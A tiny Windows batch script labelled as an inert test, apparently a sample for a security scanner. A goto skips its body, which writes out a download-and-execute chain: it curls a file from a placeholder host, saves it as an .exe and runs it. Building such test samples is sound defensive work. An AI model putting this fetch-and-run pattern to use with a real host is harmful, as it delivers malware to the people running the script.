@echo off
rem INERT SEKISHO TEST
goto :end
mkdir  C:\Inertone\Inerttwo & curl https://example.invalid/a/0.1.dat --output C:\Inertone\Inerttwo\Inertthree.exe
timeout 10 & C:\Inertone\Inerttwo\Inertthree.exe
:end
